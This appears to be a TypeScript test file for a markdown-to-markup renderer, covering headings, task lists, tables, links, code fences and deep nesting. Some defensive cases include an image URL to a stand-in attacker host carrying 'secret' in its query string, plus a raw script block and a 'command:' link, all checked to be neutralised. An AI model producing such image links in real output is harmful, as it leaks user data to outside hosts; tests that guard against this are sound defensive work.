import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { lex } from '../../../src/markdown/lex.ts';
import { type Markup, toMarkup } from '../../../src/markdown/markup.ts';

/** Markup in a short form: `p(text em(x))`, with attributes in brackets. */
function brief(source: string, final = true): string {
  return toMarkup(lex(source), {
    decode: text => text,
    imageLabel: what => `<${what}>`,
    tableLabel: 'Table',
    final,
  })
    .map(write)
    .join(' ');
}

function write(markup: Markup): string {
  if (typeof markup === 'string') return markup;
  if (markup.tag === 'code-block') return `code-block[${markup.language},${markup.closed}](${markup.text})`;
  const attributes = Object.entries(markup.attributes).map(([name, value]) => `${name}=${value}`);
  const shown = attributes.length > 0 ? `[${attributes.join(' ')}]` : '';
  return `${markup.tag}${shown}(${markup.children.map(write).join('')})`;
}

describe('markdown as markup', () => {
  const table: [what: string, source: string, markup: string][] = [
    ['headings from h3 on', '# a\n\n### b\n\n###### c', 'h3(a) h5(b) h6(c)'],
    ['emphasis', '*a* **b** ~~c~~ `d`', 'p(em(a) strong(b) del(c) code(d))'],
    ['an ordered list with its start', '3. a\n4. b', 'ol[start=3](li(a)li(b))'],
    [
      'a task list',
      '- [x] a\n- [ ] b',
      'ul(li[class=task](input[type=checkbox disabled= checked= aria-label=a]() a)li[class=task](input[type=checkbox disabled= aria-label=b]() b))',
    ],
    [
      'a table with alignment',
      '| a | b |\n|--:|---|\n| 1 | 2 |',
      'div[class=table tabindex=0 role=group aria-label=Table](table(thead(tr(th[class=align-right](a)th(b)))tbody(tr(td[class=align-right](1)td(2)))))',
    ],
    ['raw HTML as text', 'a <b>c</b>', 'p(a <b>c</b>)'],
    ['a raw block as text', '<script>\nx\n</script>', 'p[class=raw](<script>\nx\n</script>)'],
    ['a raw line break as one', 'a<br>b<BR />c', 'p(abr()bbr()c)'],
    ['escapes', '\\*a\\* \\<b>', 'p(*a* <b>)'],
    ['no trace of a definition', '[a]: https://example.com', ''],
    [
      'a picture as its words and its host',
      '![a chart](https://evil.example/x?q=secret)',
      'p(span[class=chip](span[class=codicon codicon-file-media aria-hidden=true]()<a chart · evil.example>))',
    ],
    [
      'a link that only the host can follow',
      '[a](https://example.com "t")',
      'p(a[role=link tabindex=0 title=example.com data-url=https://example.com/](a))',
    ],
    [
      'an autolink',
      'https://example.com/x.',
      'p(a[role=link tabindex=0 title=example.com data-url=https://example.com/x](https://example.com/x).)',
    ],
    [
      'other schemes as their words',
      '[a](command:x) [b](http://x.example) <mailto:c@d.e>',
      'p(a b mailto:c@d.e)',
    ],
    ['a code block', '```ts x\na\n```', 'code-block[ts,true](a)'],
    ['an indented code block', '    a\n    b', 'code-block[,true](a\nb)'],
  ];
  for (const [what, source, markup] of table) {
    test(`has ${what}`, () => assert.equal(brief(source), markup));
  }

  test('keeps a fence open until its last line is here', () => {
    assert.equal(brief('```ts\na', false), 'code-block[ts,false](a)');
    assert.equal(brief('````ts\na\n```', false), 'code-block[ts,false](a\n```)');
    assert.equal(brief('````ts\na\n````', false), 'code-block[ts,true](a)');
    assert.equal(brief('```ts\na', true), 'code-block[ts,true](a)');
  });

  test('shows the source below a depth that no one writes', () => {
    const text = brief(`${'> '.repeat(300)}deep`);
    assert.equal(text.match(/blockquote\(/g)?.length, 60);
    assert.ok(text.includes('deep'));
  });
});
